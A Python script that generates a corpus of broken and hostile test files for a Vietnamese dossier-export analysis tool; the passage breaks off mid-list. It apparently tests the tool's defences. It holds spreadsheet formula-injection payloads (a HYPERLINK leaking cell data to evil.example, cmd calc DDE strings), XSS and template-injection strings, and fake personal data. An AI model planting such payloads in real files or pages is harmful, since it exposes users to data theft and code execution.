"""Write the bad-input corpus of tests/data/bad/: broken, hostile and messy dossier exports, each with its outcome.

Run from the repository root: ``.venv/bin/python tests/data/bad/make_corpus.py``. The output is deterministic
(fixed zip timestamps, fixed metadata), except ``password_protected.xlsx``: it is encrypted with a random salt
by msoffcrypto-tool when that package is installed (``pip install msoffcrypto-tool``; it is not a dependency
of the project), and kept as committed otherwise.

Every ``<name>.<ext>`` has a ``<name>.expected.json`` beside it:

- ``{"exit": 2, "message_contains": [...]}`` — the file cannot be read: one clear message (Vietnamese, then
  English) naming the file, exit code 2;
- ``{"exit": 0, "rows": {"read", "loaded", "excluded", "rejected"}, "reject_reasons": {code: n}}`` — the rows are
  read and every one is accounted for; rejected rows are counted by reason;
- optional ``"absent_from_output"``: texts that must appear in no output (personal data, raw formulas).

``tests/test_bad_inputs.py`` runs ``cchc validate`` and ``cchc kpis`` over every file and checks all of it. A very
large file (300.000 rows) is made by that test in a temporary folder, not committed here.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import struct
import subprocess
import sys
import zipfile
from datetime import datetime
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from cchc_analysis.synthetic import _encode  # noqa: E402  (Windows-1258 as Windows writes it)

H = ["Mã hồ sơ", "Ngày tiếp nhận", "Ngày hẹn trả", "Ngày kết thúc xử lý"]
GOOD = [
    ["HS-001", "02/04/2026 08:00", "10/04/2026", "08/04/2026 15:30"],
    ["HS-002", "03/04/2026", "09/04/2026", ""],
]
FIELD_ROWS = [
    ["HS-001", "02/04/2026 08:00", "10/04/2026", "08/04/2026 15:30", "Hộ tịch"],
    ["HS-002", "03/04/2026", "09/04/2026", "", "Chứng thực"],
    ["HS-003", "06/04/2026", "08/04/2026", "07/04/2026", "Đất đai"],
]
TITLE = "BÁO CÁO DANH SÁCH HỒ SƠ TIẾP NHẬN"
ZIP_TIME = (2026, 1, 1, 0, 0, 0)

CORPUS: dict[str, tuple[bytes, dict]] = {}


def rows_text(rows: list[list[str]], delimiter: str = ",") -> str:
    buf = io.StringIO()
    csv.writer(buf, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return buf.getvalue()


def ok(read: int, loaded: int, excluded: int = 0, rejected: int = 0, **reasons: int) -> dict:
    assert read == loaded + excluded + rejected
    assert sum(reasons.values()) == rejected
    return {
        "exit": 0,
        "rows": {"read": read, "loaded": loaded, "excluded": excluded, "rejected": rejected},
        "reject_reasons": reasons,
    }


def fails(*contains: str) -> dict:
    return {"exit": 2, "message_contains": list(contains)}


def add(name: str, data: bytes | str, expected: dict, description: str) -> None:
    stem = name.rsplit(".", 1)[0]
    assert all(other.rsplit(".", 1)[0] != stem for other in CORPUS), f"two files named {stem}.*"
    CORPUS[name] = (
        data.encode("utf-8") if isinstance(data, str) else data,
        {"description": description, **expected},
    )


def fixed_zip(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            entry = zipfile.ZipInfo(info.filename, date_time=ZIP_TIME)
            entry.compress_type = zipfile.ZIP_DEFLATED
            entry.external_attr = 0o600 << 16
            zout.writestr(entry, zin.read(info.filename))
    return out.getvalue()


def xlsx(rows: list[list[object]], *, edit=None) -> bytes:
    """An xlsx of ``rows`` (``edit(ws)`` may change cells), byte-for-byte reproducible."""
    from openpyxl import Workbook
    from openpyxl.writer.excel import ExcelWriter

    wb = Workbook()
    ws = wb.active
    ws.title = "Hồ sơ"
    for row in rows:
        ws.append(row)
    if edit is not None:
        edit(ws)
    wb.properties.creator = "tests/data/bad/make_corpus.py"
    wb.properties.created = wb.properties.modified = datetime(*ZIP_TIME)
    raw = io.BytesIO()
    archive = zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED)
    ExcelWriter(wb, archive).save()
    return fixed_zip(raw.getvalue())


def parquet(table) -> bytes:
    import pyarrow.parquet as pq

    buf = io.BytesIO()
    pq.write_table(table, buf, compression="none")
    return buf.getvalue()


# --- encodings ---------------------------------------------------------------------------------------------------
text = rows_text([[TITLE], [*H, "Lĩnh vực"], *FIELD_ROWS])
add(
    "enc_utf8_bom.csv",
    "\ufeff" + text,
    ok(3, 3),
    "UTF-8 with a byte-order mark, a title line above the header",
)
add(
    "enc_utf16_bom_tab.csv",
    rows_text([[*H, "Lĩnh vực"], *FIELD_ROWS], "\t").encode("utf-16"),
    ok(3, 3),
    "UTF-16 with BOM, tab-delimited (Excel's 'Unicode text')",
)
add(
    "enc_utf16le_no_bom.csv",
    rows_text([[*H, "Lĩnh vực"], *FIELD_ROWS]).encode("utf-16-le"),
    ok(3, 3),
    "UTF-16 little-endian without BOM",
)
add(
    "enc_cp1258_semicolon.csv",
    _encode(rows_text([[TITLE], [*H, "Lĩnh vực"], *FIELD_ROWS], ";"), "cp1258"),
    ok(3, 3),
    "Windows-1258 (tone marks as combining characters), semicolon-delimited",
)
add(
    "enc_mojibake.csv",
    text.encode("utf-8").decode("cp1252", errors="replace"),
    fails("lỗi bảng mã", "mojibake"),
    "UTF-8 opened as Windows-1252 and saved again: «MÃ£ há»“ sÆ¡»",
)
add(
    "enc_mixed_utf8_cp1258.csv",
    rows_text([[*H, "Lĩnh vực"], *FIELD_ROWS[:2]]).encode("utf-8")
    + _encode(rows_text([FIELD_ROWS[2]]), "cp1258"),
    fails("trộn hai bảng mã", "mixes encodings", "dòng 4"),
    "UTF-8 file with a last line appended in Windows-1258",
)
add(
    "enc_binary_garbage.csv",
    bytes(range(256)) * 8,
    fails("không phải văn bản CSV", "not CSV text"),
    "binary bytes (with NULs) named .csv",
)

# --- structure ---------------------------------------------------------------------------------------------------
add("empty.csv", b"", fails("Tệp rỗng", "empty"), "zero bytes")
add("blank_lines_only.csv", "\n  \r\n\t\n\n", fails("Tệp rỗng", "empty"), "only blank lines")
add("header_only.csv", rows_text([H]), ok(0, 0), "a header and no data row: zero rows, not an error")
add(
    "title_rows_without_header.csv",
    rows_text([[TITLE], ["Từ ngày 01/04/2026 đến ngày 30/04/2026"], [""], *GOOD]),
    fails("Không tìm thấy dòng tiêu đề", "No header row", "Mã hồ sơ"),
    "title lines and data rows, but no header row",
)
add(
    "header_after_row_20.csv",
    rows_text([[f"Dòng ghi chú {i}"] for i in range(1, 23)] + [H, *GOOD]),
    fails("Không tìm thấy dòng tiêu đề trong 20 dòng đầu", "first 20 rows"),
    "the header is on row 23, below the 20 rows searched",
)
add(
    "duplicated_header.csv",
    rows_text([[*H, "Mã hồ sơ"], [*GOOD[0], "HS-999"]]),
    fails("Hai cột «Mã hồ sơ» và «Mã hồ sơ»", "both map to dossier_id"),
    "the same header twice",
)
add(
    "two_columns_same_field.csv",
    rows_text([[*H, "NgayTiepNhan"], [*GOOD[0], "01/04/2026"]]),
    fails("cùng là Ngày tiếp nhận", "both map to received_at"),
    "two different headers that both mean received_at",
)
add(
    "missing_required_column.csv",
    rows_text(
        [
            ["Mã hồ sơ", "Ngày tiếp nhận", "Ngày kết thúc xử lý", "Lĩnh vực"],
            ["HS-1", "01/04/2026", "", "Hộ tịch"],
        ]
    ),
    fails("Thiếu cột bắt buộc", "Missing required column", "Ngày hẹn trả"),
    "no due-date column (Ngày hẹn trả)",
)
add(
    "column_numbers_and_blank_rows.csv",
    rows_text(
        [[TITLE], [""], H, ["(1)", "(2)", "(3)", "(4)"], GOOD[0], ["", "", "", ""], [], GOOD[1], [" ", "\t"]]
    ),
    ok(2, 2),
    "a row of column numbers under the header and blank rows: not data rows",
)
add(
    "line_endings_mixed.csv",
    "\ufeff"
    + ";".join(H)
    + "\r\n"
    + ";".join(GOOD[0])
    + "\r"
    + ";".join(GOOD[1])
    + "\n"
    + "HS-003;06/04/2026;08/04/2026;",
    ok(3, 3),
    "CRLF, CR and LF line endings, no final newline",
)
add(
    "ragged_rows.csv",
    rows_text(
        [H, GOOD[0], [*GOOD[1], "", "thừa"], ["HS-003", "06/04/2026"], ["HS-004", "06/04/2026", "08/04/2026"]]
    ),
    ok(4, 3, rejected=1, bad_field_count=1),
    "rows with more cells than the header (one with text in them), rows with fewer",
)
add(
    "unclosed_quote.csv",
    rows_text([H, GOOD[0]]) + 'HS-002,"03/04/2026,09/04/2026,\n' + "HS-003,06/04/2026,08/04/2026,\n" * 300,
    fails("Dấu ngoặc kép không đóng", "Unclosed double quote", "dòng 3"),
    "a double quote opened on row 3 and never closed",
)

# --- values ------------------------------------------------------------------------------------------------------
bad_received = [
    "13/04/26",
    "April 13, 2026",
    "13 tháng 4 năm 2026",
    "31/02/2026",
    "29/02/2025",
    "2026-13-45",
    "00/00/0000",
    "NULL",
    "#N/A",
    "không rõ",
    "13/04/2026 25:61",
    "24:00 13/04/2026",
    "13/04/2026 14:30 +25:00",
    "1e10",
    "-1",
    "١٣/٠٤/٢٠٢٦",
    "13.04.2026.",
    "2026/04/13/01",
    "45000",
]
rows = [H, *GOOD]
rows += [[f"BD-{i:02d}", value, "30/04/2026", ""] for i, value in enumerate(bad_received)]
rows += [["BD-90", "", "30/04/2026", ""], ["BD-91", "01/04/2026", "", ""]]
rows += [
    ["BD-92", "01/04/2026", "30/04/2026", "hôm qua"],
    ["BD-93", "01/04/2026", "30/04/2026", "32/01/2026"],
]
add(
    "unreadable_dates.csv",
    rows_text(rows),
    ok(25, 3, rejected=22, bad_date=21, blank_date=1),
    "every kind of unreadable date: 2-digit years, month names, 31/02, 25:61, bad UTC offsets, other digits",
)
add(
    "dates_out_of_range.csv",
    rows_text(
        [
            H,
            GOOD[0],
            ["R-1", "01/01/1900", "05/01/1900", ""],
            ["R-2", "01/04/2026", "31/12/2099", ""],
            ["R-3", "31/12/1989", "05/01/2026", ""],
            ["R-4", "01/04/2026", "01/01/2061", ""],
            ["R-5", "01/04/2026", "10/04/2026", "01/01/2099"],
        ]
    ),
    ok(6, 1, rejected=5, date_out_of_range=5),
    "years 1900, 2099, 1989 and 2061: outside 1990–2060",
)
add(
    "due_or_resolved_before_received.csv",
    rows_text(
        [
            H,
            ["D-1", "10/04/2026", "09/04/2026", ""],
            ["D-2", "10/04/2026 08:00", "01/01/2026", "12/04/2026"],
            ["D-3", "10/04/2026", "15/04/2026", "09/04/2026"],
            ["D-4", "10/04/2026 16:00", "15/04/2026", "31/03/2026 09:00"],
            ["D-5", "10/04/2026 16:00", "10/04/2026 08:00", "10/04/2026 09:00"],
            ["D-6", "10/04/2026", "10/04/2026", "10/04/2026"],
        ]
    ),
    ok(6, 2, rejected=4, due_before_received=2, resolved_before_received=2),
    "due or resolved before received (compared as dates: the same day at an earlier hour is fine)",
)
header = [*H, "Kênh thực hiện", "Mức độ DVC", "Trạng thái", "Số hóa", "Mức độ hài lòng"]
good = ["Trực tuyến", "Toàn trình", "10", "Có", "Hài lòng"]
rows = [header, [*GOOD[0], *good], [*GOOD[1], "Trực tiếp", "", "4", "Không", ""]]
for i, (col, value) in enumerate(
    [
        (0, "Qua Zalo"),
        (0, "Không trực tuyến"),
        (1, "Mức độ 9"),
        (2, "11"),
        (2, "Đang chờ ký số"),
        (3, "có lẽ"),
        (4, "Tạm được"),
    ]
):
    cells = list(good)
    cells[col] = value
    rows.append([f"U-{i}", "01/04/2026", "10/04/2026", "", *cells])
add(
    "unknown_values.csv",
    rows_text(rows),
    ok(
        9,
        2,
        rejected=7,
        unknown_channel=2,
        unknown_online_level=1,
        unknown_status=2,
        unknown_value=1,
        unknown_satisfaction=1,
    ),
    "unknown channel, online level, status, yes/no and satisfaction values",
)
rows = [[*H, "Trạng thái"]]
for i, status in enumerate(["1", "3", "Mới đăng ký", "Không được tiếp nhận", "10", "Đã trả kết quả"]):
    rows.append([f"S-{i}", "" if i == 0 else "01/04/2026", "10/04/2026", "", status])
add(
    "excluded_status.csv",
    rows_text(rows),
    ok(6, 2, excluded=4),
    "status 1 / 3 (never received): excluded and counted as such, even with a blank date",
)
add(
    "duplicate_and_blank_ids.csv",
    rows_text(
        [
            H,
            ["A-1", "01/04/2026", "10/04/2026", ""],
            ["A-1", "02/04/2026", "10/04/2026", ""],
            ["B-1", "01/04/2026", "10/04/2026", ""],
            ["", "01/04/2026", "10/04/2026", ""],
            ["   ", "01/04/2026", "10/04/2026", ""],
            ["C-1", "01/04/2026", "10/04/2026", ""],
            ["\u200bC-1\u00a0", "01/04/2026", "10/04/2026", ""],
        ]
    ),
    ok(7, 3, rejected=4, duplicate_id=2, blank_id=2),
    "a duplicate id, blank ids, an id hidden by a zero-width space and a no-break space",
)
header = [*H, "Lệ phí", "Thanh toán trực tuyến"]
fees = [
    ("1.000.000", "1"),
    ("25.000 đ", "2"),
    ("1.000,50", "0"),
    ("0", "0"),
    ("Miễn phí", ""),
    ("50.000 VNĐ", "1"),
]
fees += [("1 000 000", "1"), ("1,5", "1"), ("một nghìn đồng", "1")]
rows = [header] + [
    [f"F-{i}", "01/04/2026", "10/04/2026", "", fee, paid] for i, (fee, paid) in enumerate(fees)
]
add(
    "vietnamese_number_separators.csv",
    rows_text(rows, ";"),
    ok(9, 8, rejected=1, unknown_value=1),
    "fees written with Vietnamese separators (1.000.000; 1.000,50; 25.000 đ) in a semicolon file",
)
add(
    "comma_decimal_unquoted.csv",
    rows_text([header, ["F-1", "01/04/2026", "10/04/2026", "", "25000", "1"]])
    + "F-2,01/04/2026,10/04/2026,,1.000,50,1\n",
    ok(2, 1, rejected=1, bad_field_count=1),
    "a decimal comma not quoted in a comma-delimited file: one cell too many",
)
formula_header = [*H, "Tên thủ tục", "Lĩnh vực", "Đơn vị", "Hệ thống"]
formulas = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
]
add(
    "formula_cells.csv",
    rows_text(
        [
            formula_header,
            ["FM-1", "01/04/2026", "10/04/2026", "", *formulas],
            ["FM-2", "01/04/2026", "10/04/2026", "", *reversed(formulas)],
            ["FM-3", "=NOW()", "10/04/2026", "", "Đăng ký khai sinh", "Hộ tịch", "UBND xã", "Bộ Tư pháp"],
        ]
    ),
    {**ok(3, 2, rejected=1, bad_date=1), "formulas": [*formulas, "=NOW()"]},
    "text cells that a spreadsheet would run as formulas (=, +, -, @): kept as text, neutralised in CSV/xlsx output",
)


def _formula_cells(ws) -> None:
    ws["B3"] = "=TODAY()"  # a real formula without a cached value: the cell is blank to a reader
    for row in (2, 3):
        for col, value in zip("EFGH", formulas, strict=True):
            ws[f"{col}{row}"] = value
            ws[f"{col}{row}"].data_type = "s"  # stored as text, as an export would


add(
    "formula_cells_xlsx.xlsx",
    xlsx(
        [formula_header, ["FX-1", "01/04/2026", "10/04/2026", None], ["FX-2", None, "10/04/2026", None]],
        edit=_formula_cells,
    ),
    {**ok(2, 1, rejected=1, blank_date=1), "formulas": formulas},
    "formula-looking text cells and a real formula (=TODAY(), no cached value) in an xlsx",
)
add(
    "long_cells.csv",
    rows_text(
        [
            [*H, "Tên thủ tục"],
            [*GOOD[0], "Thủ tục rất dài " * 12_000],
            ["X" * 5_000, "01/04/2026", "10/04/2026", "", "Đăng ký khai sinh"],
            ["L-3", "1" * 20_000, "10/04/2026", "", "Đăng ký khai sinh"],
        ]
    ),
    ok(3, 2, rejected=1, bad_date=1),
    "a 190.000-character procedure name, a 5.000-character id, a 20.000-digit date",
)
add(
    "control_characters.csv",
    rows_text([[*H, "Lĩnh vực"]]).encode("utf-8")
    + b"HS-1,02/04/2026,10/04/2026,,H\x1b\xe1\xbb\x99 t\xe1\xbb\x8bch\x1a\n"
    + b"HS-\x082,03/04/2026,10/04/2026,,\x0bCh\xe1\xbb\xa9ng th\xe1\xbb\xb1c\x7f\n"
    + b"\x01\x1a,03/04/2026,10/04/2026,,\x07\n",
    ok(3, 2, rejected=1, blank_id=1),
    "^Z, escape, bell, backspace and other control characters inside cells (removed: no spreadsheet can hold "
    "them); an id of control characters only is blank. (A NUL byte makes a file binary: see enc_binary_garbage)",
)
personal = {
    "names": ["Nguyễn Văn Bảo", "Trần Thị Cúc", "Lê Hoàng Dũng"],
    "ids": ["001203004005", "034198765432", "123456789"],
    "phones": ["0912345678", "0987 654 321", "+84 903 111 222"],
    "addresses": ["Số 12 ngõ 34 phố Giả Định", "Thôn Ví Dụ, xã Mẫu"],
    "emails": ["bao.nguyen@example.vn"],
    "officers": ["Phạm Minh Khôi", "Đỗ Thu Hằng"],
}
first = [personal[k][0] for k in ("names", "ids", "phones", "addresses", "emails")]
rows = [
    ["STT", "Mã hồ sơ", "Họ tên người nộp", "Số CCCD", "Điện thoại", "Địa chỉ", "Email", *H[1:], "Tên thủ tục",
     "Cán bộ xử lý", "Ghi chú"],
    ["1", "P-1", *first, *GOOD[0][1:], f"Đăng ký khai sinh (liên hệ {personal['phones'][1]})",
     personal["officers"][0], personal["names"][1]],
    ["2", "P-2", personal["names"][1], personal["ids"][1], personal["phones"][1], personal["addresses"][1], "",
     *GOOD[1][1:], f"Chứng thực bản sao CCCD {personal['ids'][2]}", personal["officers"][1], ""],
    ["3", "P-3", personal["names"][2], personal["ids"][2], personal["phones"][2], "", "",
     "01/04/2026", personal["phones"][2], "", "Đăng ký kết hôn", personal["officers"][0], ""],
]  # fmt: skip
add(
    "personal_data.csv",
    rows_text(rows),
    {
        **ok(3, 2, rejected=1, bad_date=1),
        "absent_from_output": [v for values in personal.values() for v in values],
    },
    "personal-data columns, officers' names, an ID number and phone numbers typed into the procedure name, "
    "a phone number in a date column: none may reach any output",
)

# --- Excel -------------------------------------------------------------------------------------------------------
good_xlsx = xlsx([[TITLE], H, *GOOD])
add(
    "truncated_xlsx.xlsx",
    good_xlsx[: len(good_xlsx) // 2],
    fails("Không mở được tệp Excel", "truncated"),
    "the first half of a valid xlsx",
)
add(
    "text_named_xlsx.xlsx",
    rows_text([H, *GOOD]),
    fails("nội dung là một tệp văn bản", ".xlsx"),
    "CSV text saved with an .xlsx name",
)
archive = io.BytesIO()
with zipfile.ZipFile(archive, "w") as z:
    z.writestr(zipfile.ZipInfo("readme.txt", date_time=ZIP_TIME), "không phải sổ tính")
add(
    "zip_not_workbook.xlsx",
    archive.getvalue(),
    fails("Không mở được tệp Excel"),
    "a zip archive that holds no workbook",
)
add(
    "html_named.xls",
    "<html><body><table><tr><td>Mã hồ sơ</td><td>Ngày tiếp nhận</td></tr></table></body></html>",
    fails("trang HTML", ".xls"),
    "an HTML table saved as .xls, as some web systems export",
)
add(
    "empty_workbook.xlsx",
    xlsx([]),
    fails("trống", "empty"),
    "a workbook whose only sheet is empty",
)
add(
    "stray_cell_far_away.xlsx",
    xlsx([H, *GOOD], edit=lambda ws: ws.cell(row=1_048_576, column=16_384, value="x")),
    ok(2, 2),
    "a stray cell at XFD1048576: the used area is 17 billion cells; read row by row, only as wide as the header",
)


def _excel_dates(ws) -> None:
    ws["B3"] = 1.0  # 31/12/1899 as an Excel serial: out of range
    ws["B4"] = -5.0
    ws["C5"] = 2_958_470.0  # beyond 31/12/9999
    ws["B6"] = "#VALUE!"
    ws["B6"].data_type = "e"


add(
    "excel_dates_and_errors.xlsx",
    xlsx(
        [
            H,
            ["E-1", datetime(2026, 4, 1, 8), datetime(2026, 4, 10), 46125.5],
            ["E-2", None, "10/04/2026", None],
            ["E-3", None, "10/04/2026", None],
            ["E-4", "01/04/2026", None, None],
            ["E-5", None, "10/04/2026", None],
        ],
        edit=_excel_dates,
    ),
    ok(5, 1, rejected=4, date_out_of_range=1, bad_date=2, blank_date=1),
    "Excel dates and serial numbers, serial 1 (year 1899), a negative serial, a serial past 9999, an error cell "
    "(#VALUE!, which the Excel reader gives as blank: «Thiếu ngày tiếp nhận»)",
)

# --- Parquet, other formats ----------------------------------------------------------------------------------------
import pyarrow as pa  # noqa: E402

good_parquet = parquet(
    pa.table(
        {
            "dossier_id": ["Q-1", "Q-2"],
            "received_at": pa.array([datetime(2026, 4, 1), datetime(2026, 4, 2)], pa.timestamp("us")),
            "due_at": pa.array([datetime(2026, 4, 10), datetime(2026, 4, 10)], pa.timestamp("us")),
            "resolved_at": pa.array([None, None], pa.timestamp("us")),
        }
    )
)
add(
    "truncated_parquet.parquet",
    good_parquet[: len(good_parquet) // 2],
    fails("Parquet"),
    "the first half of a Parquet file",
)
add(
    "parquet_wrong_types.parquet",
    parquet(
        pa.table(
            {
                "dossier_id": pa.array([1, 2, None, 4], pa.int64()),
                "received_at": pa.array([20260401, 5, 20260402, 20260403], pa.int64()),
                "due_at": pa.array(["10/04/2026", "10/04/2026", "10/04/2026", "hạn"], pa.string()),
                "resolved_at": pa.array([None, 1.5, None, None], pa.float64()),
            }
        )
    ),
    ok(4, 1, rejected=3, bad_date=2, blank_id=1),
    "numbers where dates should be, a null id, text in a due-date column",
)
add(
    "text_named_parquet.parquet",
    rows_text([H, *GOOD]),
    fails("nội dung là một tệp văn bản", ".parquet"),
    "CSV text saved with a .parquet name",
)
add(
    "unsupported_extension.pdf",
    b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n",
    fails("Không đọc được tệp đuôi «.pdf»", "Unsupported file type"),
    "a PDF: not a dossier export",
)

# --- issue 16, personal data in many formats (helper D) ------------------------------------------------------------
# Numbers as people type them into free text; every one must be masked in every output. The dossier codes have many
# digits and are no personal data: they are kept where ids are shown.
pii_formats = {
    "cccd_groups": "000 190 012 346",
    "cmnd_dots": "099.888.777",
    "intl_brackets": "(+84) 999 246 136",
    "landline_4": "(0225) 3123456",
    "landline_3": "(024) 3825 1234",
    "full_width": "０９１２ ３４５ ６７８",
    "intl_00": "0084 912 345 678",
    "dashes": "0913-579-246",
}
p = pii_formats
pii_rows = [
    ["Mã hồ sơ", *H[1:], "Tên thủ tục", "Lĩnh vực", "Đơn vị xử lý"],
    ["000.00.12.H23-260401-0001", *GOOD[0][1:], f"Đăng ký khai sinh (CCCD {p['cccd_groups']})", "Hộ tịch",
     f"UBND xã Tân Lập – ĐT {p['landline_3']}"],
    ["000.00.12.H23-260402-0002", *GOOD[1][1:], f"Chứng thực bản sao CMND {p['cmnd_dots']}",
     f"Chứng thực, liên hệ {p['intl_brackets']}", f"UBND xã Tân Lập – ĐT {p['landline_3']}"],
    ["000.00.12.H23-260403-0003", "03/04/2026", "10/04/2026", "", f"Cấp phép xây dựng, ĐT {p['landline_4']}",
     f"Xây dựng – SĐT {p['full_width']}", f"UBND xã Tân Lập – ĐT {p['landline_3']}"],
    ["000.00.12.H23-260404-0004", f"ĐT {p['intl_00']}", "10/04/2026", "", f"Đăng ký kết hôn {p['dashes']}",
     "Hộ tịch", f"UBND xã Tân Lập – ĐT {p['landline_3']}"],
]  # fmt: skip
add(
    "personal_data_formats.csv",
    rows_text(pii_rows),
    {
        **ok(4, 3, rejected=1, bad_date=1),
        "absent_from_output": sorted(
            {*pii_formats.values(), "999 246 136", "3123456", "3825 1234", "912 345 678", "579-246"}
        ),
    },
    "ID and phone numbers as people type them into the procedure, field and unit names and a date cell (CCCD in "
    "groups, dotted CMND, (+84), 0084, landlines with area codes in brackets, full-width digits, dashes): all "
    "masked in every output; the dossier codes (many digits) are kept",
)


def write_password_protected(path: Path) -> None:
    """An xlsx encrypted with the password «matkhau» (msoffcrypto-tool), kept as committed when it is missing."""
    plain = path.with_name(".plain.xlsx")
    plain.write_bytes(xlsx([H, *GOOD]))
    try:
        try:
            import msoffcrypto  # noqa: F401
            from msoffcrypto.format.ooxml import OOXMLFile

            with open(plain, "rb") as src, open(path, "wb") as dst:
                OOXMLFile(src).encrypt("matkhau", dst)
        except ImportError:
            tool = shutil.which("msoffcrypto-tool")
            if tool is None:
                if path.exists():
                    print(f"kept {path.name} (msoffcrypto-tool is not installed)")
                    return
                raise SystemExit(
                    "password_protected.xlsx needs msoffcrypto-tool: pip install msoffcrypto-tool"
                ) from None
            subprocess.run([tool, "-e", "-p", "matkhau", str(plain), str(path)], check=True)
    finally:
        plain.unlink(missing_ok=True)


def main() -> None:
    keep = {"README.md", "make_corpus.py", "password_protected.xlsx", "password_protected.expected.json"}
    for old in HERE.iterdir():
        if old.name not in keep and old.is_file():
            old.unlink()
    expected_files = dict(CORPUS)
    expected_files["password_protected.xlsx"] = (
        b"",
        {
            "description": "a real password-protected xlsx (password «matkhau»), an OLE container",
            **fails("mật khẩu", "password-protected"),
        },
    )
    for name, (data, expected) in expected_files.items():
        stem = name.rsplit(".", 1)[0]
        if name != "password_protected.xlsx":
            (HERE / name).write_bytes(data)
        (HERE / f"{stem}.expected.json").write_text(
            json.dumps(expected, ensure_ascii=False, indent=2) + "\n", encoding="utf-8"
        )
    write_password_protected(HERE / "password_protected.xlsx")
    write_readme(expected_files)
    print(f"{len(expected_files)} files in {HERE}")


README_HEAD = """# Bad-input corpus

Broken, hostile and messy dossier exports, each with its expected outcome in `<name>.expected.json` beside it.
`tests/test_bad_inputs.py` runs `cchc validate` and `cchc kpis` over every file: each one either exits 0 with
every row accounted for (`read = loaded + excluded + rejected`, rejected rows counted by reason) or exits 2 with
one line, Vietnamese then English, naming the file. Never a traceback; never exit 0 with rows silently missing.

All files are fake: names, ID numbers and phone numbers in `personal_data.csv` are made up. This README and
every file but `password_protected.xlsx` are written by `make_corpus.py` (run it from the repository root:
`.venv/bin/python tests/data/bad/make_corpus.py`); the encrypted workbook is remade only where msoffcrypto-tool
is installed. The very large file (300.000 rows) is generated by the test in a temporary folder.

| file | what is wrong with it | expected |
|---|---|---|
"""


def write_readme(files: dict[str, tuple[bytes, dict]]) -> None:
    lines = [README_HEAD.rstrip("\n")]
    for name in sorted(files):
        e = files[name][1]
        if e["exit"] == 2:
            outcome = "exit 2: " + "; ".join(f"«{m}»" for m in e["message_contains"])
        else:
            outcome = "exit 0: " + ", ".join(f"{k} {v}" for k, v in e["rows"].items())
            if e["reject_reasons"]:
                outcome += " — " + ", ".join(f"{k} {v}" for k, v in e["reject_reasons"].items())
        description = e["description"].replace("|", "\\|")
        lines.append(f"| `{name}` | {description} | {outcome} |")
    (HERE / "README.md").write_text("\n".join(lines) + "\n", encoding="utf-8")


# === Issue 16, helper E: hostile names, cover sheets, legacy encodings, look-alike and rounded ids ==============
# (a section of its own, at the end: other sections are appended after it)


def _legacy(text: str, encoding: str) -> bytes:
    """``text`` in the legacy table ``encoding`` (TCVN3 / VNI) of ``cchc_analysis/reference/legacy_vietnamese.csv``."""
    table = {}
    with open(
        HERE.parents[2] / "cchc_analysis" / "reference" / "legacy_vietnamese.csv", encoding="utf-8"
    ) as fh:
        for row in csv.DictReader(fh):
            if row["encoding"] == encoding:
                table.setdefault(row["char"], bytes.fromhex(row["bytes"]))
    return b"".join(table.get(ch) or ch.encode("ascii") for ch in text)


LEGACY_ROWS = [
    [*H, "Lĩnh vực", "Trạng thái"],
    ["HS-001", "02/04/2026", "10/04/2026", "08/04/2026", "Hộ tịch", "Đã trả kết quả"],
    ["HS-002", "03/04/2026", "09/04/2026", "", "Chứng thực", "Đang giải quyết"],
]
add(
    "enc_tcvn3_abc.csv",
    _legacy(rows_text([["BÁO CÁO DANH SÁCH HỒ SƠ"], *LEGACY_ROWS]), "TCVN3"),
    fails("TCVN3 (ABC)", "Unikey", "Công cụ chuyển mã", "legacy Vietnamese encoding TCVN3"),
    "the old TCVN3 (ABC) encoding (fonts .VnTime): read as Windows-1258 the header shows as «M· hå s¬»",
)
add(
    "enc_vni_windows.csv",
    _legacy(rows_text(LEGACY_ROWS), "VNI"),
    fails("VNI Windows", "Unikey", "legacy Vietnamese encoding VNI"),
    "the old VNI Windows encoding (a letter then its accent bytes): the header shows as «Maõ hoà sô»",
)


def _vntime(ws) -> None:
    from openpyxl.styles import Font

    for row in ws.iter_rows():
        for cell in row:
            cell.font = Font(name=".VnTime")


add(
    "enc_tcvn3_cells.xlsx",
    xlsx([[_legacy(v, "TCVN3").decode("cp1252") for v in row] for row in LEGACY_ROWS], edit=_vntime),
    fails("TCVN3 (ABC)", "Unikey"),
    "an xlsx whose cells were typed in TCVN3 with the .VnTime font: «M· hå s¬» in every header cell",
)


def _cover_sheet_workbook() -> bytes:
    from openpyxl import Workbook
    from openpyxl.writer.excel import ExcelWriter

    wb = Workbook()
    cover = wb.active
    cover.title = "Bìa"
    for line in ("ỦY BAN NHÂN DÂN XÃ MẪU", TITLE, "Quý II/2026", "", "Người lập biểu", "(ký, ghi rõ họ tên)"):
        cover.append([line])
    table = wb.create_sheet("Danh sách hồ sơ")
    for row in ([TITLE], [], [*H, "Lĩnh vực"], *FIELD_ROWS):
        table.append(row)
    wb.properties.creator = "tests/data/bad/make_corpus.py"
    wb.properties.created = wb.properties.modified = datetime(*ZIP_TIME)
    raw = io.BytesIO()
    archive = zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED)
    ExcelWriter(wb, archive).save()
    return fixed_zip(raw.getvalue())


add(
    "cover_sheet_first.xlsx",
    _cover_sheet_workbook(),
    fails("«Bìa» không có dòng tiêu đề", "«Danh sách hồ sơ» (dòng tiêu đề 3)", '--sheet "Danh sách hồ sơ"'),
    "the first sheet is a cover page («Bìa»); the table is on the second sheet: the refusal names it and --sheet",
)

HOSTILE_CELLS = [
    [*H, "Đơn vị", "Lĩnh vực", "Tên thủ tục", "Cán bộ xử lý", "Hệ thống", "Trạng thái"],
    [
        "HS-001",
        "02/04/2026",
        "10/04/2026",
        "08/04/2026",
        "Xã <img src=x onerror=alert(1)>",
        "<script>alert('lĩnh vực')</script>",
        "``<img src=x onerror=alert(2)>`` [bấm](javascript:alert(3))",
        "</td></tr></table><b>cán bộ</b>",
        "{{ 7*7 }} $x$ *đậm* _nghiêng_",
        "10",
    ],
    [
        "HS-002",
        "03/04/2026",
        "09/04/2026",
        "",
